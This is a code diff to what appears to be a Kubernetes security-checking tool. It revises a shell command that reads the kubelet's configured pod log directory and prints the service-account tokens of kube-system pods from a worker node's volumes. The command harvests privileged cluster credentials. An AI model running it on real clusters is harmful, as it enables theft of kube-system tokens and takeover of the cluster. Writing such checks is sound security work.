@@ -191,10 +191,10 @@ function nothingShows(found: readonly FoundToken[]): Fail {
 
 /**
  * Prints the tokens of kube-system's pods on a worker, one a line. Their UIDs are in the names of the kubelet's folders,
- * NAMESPACE_NAME_UID (kubernetes pkg/kubelet/kuberuntime/helpers.go): in a pod of his own a tenant can lay out a file that
- * is called token, and claims to be kube-system's.
+ * NAMESPACE_NAME_UID (kubernetes pkg/kubelet/kuberuntime/helpers.go), where its configuration has them: in a pod of his
+ * own a tenant can lay out a file that is called token, and claims to be kube-system's.
  */
-export const COLLECT = `for p in /var/log/pods/kube-system_*; do for f in /var/lib/kubelet/pods/"\${p##*_}"/volumes/kubernetes.io~projected/*/token; do if [ -e "$f" ]; then cat "$f"; echo; fi; done; done`;
+export const COLLECT = `d=$(sed -n 's/^podLogsDir: *"*\\([^" ]*\\).*/\\1/p' /var/lib/kubelet/config.yaml 2> /dev/null); for p in "\${d:-/var/log/pods}"/kube-system_*; do for f in /var/lib/kubelet/pods/"\${p##*_}"/volumes/kubernetes.io~projected/*/token; do if [ -e "$f" ]; then cat "$f"; echo; fi; done; done`;
 
 /** Copies by part 1 and by kubeadm, the output of an earlier run, and the file that the operator names. */
 export function keyCopies(
